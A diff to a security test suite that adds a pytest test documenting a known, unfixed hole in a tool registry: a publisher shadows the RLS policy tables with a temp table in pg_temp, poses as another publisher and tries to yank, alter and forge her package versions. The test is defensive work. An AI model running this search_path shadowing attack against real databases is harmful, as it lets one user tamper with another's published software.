@@ -8,6 +8,7 @@ the mark shows a defence that held.
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import sys
@@ -707,3 +708,46 @@ async def test_attack_the_registry_password_reaches_the_agent_in_an_error(projec
         if "review-pw" in text or "31ab" in text:
             leaks.append(text[:300])
     assert leaks == [], leaks
+
+
+# ====================================================================== RLS bypass through pg_temp
+
+
+@pytest.mark.postgres
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE (high): kiwi_my_namespace() and kiwi_item_namespace() name their tables without a schema "
+    "and have no SET search_path, and pg_temp is searched first for tables: a publisher creates temp "
+    "tables kiwi_publishers/tools that say it is 'alice', and the RLS policies then let it yank alice's "
+    "versions, add files to them and insert versions under her namespace (migrations/0001_registry.sql)",
+)
+def test_attack_rls_bypass_by_shadowing_the_policy_tables_with_temp_tables(alice, postgres, project):
+    name = unique("victim")
+    publish_raw(
+        postgres, "alice", Bundle("tool", name, "1.0.0", tool_yaml(name), {"main.py": "x = 1\n"}), alice
+    )
+    with Registry(postgres) as registry:
+        registry.add_publisher("bob", "bob", "bob-key", "AAAA")
+    done = []
+    with psycopg.connect(as_role(postgres, "bob"), autocommit=True) as bob:
+        bob.execute("create temp table kiwi_publishers (namespace text, role_name text)")
+        bob.execute("insert into kiwi_publishers values ('alice', 'bob')")
+        assert bob.execute("select kiwi_my_namespace()").fetchone()[0] == "alice"
+        with contextlib.suppress(psycopg.Error):
+            if bob.execute("update item_versions set yanked = true where item_id = %s", (name,)).rowcount:
+                done.append("yanked alice's version")
+        with contextlib.suppress(psycopg.Error):
+            bob.execute(
+                "insert into tool_version_files (item_id, version, path, content) values (%s, '1.0.0', 'evil.py', 'x')",
+                (name,),
+            )
+            done.append("added a file to alice's version")
+        with contextlib.suppress(psycopg.Error):
+            bob.execute(
+                "insert into item_versions (item_type, item_id, version, version_order, namespace, content, "
+                "content_hash, bundle_signature, signer, size_bytes) "
+                "values ('tool', %s, '999.0.0', '{999,0,0}', 'alice', 'x', 'x', 'x', 'x', 1)",
+                (name,),
+            )
+            done.append("inserted version 999.0.0 under alice's namespace")
+    assert done == [], done
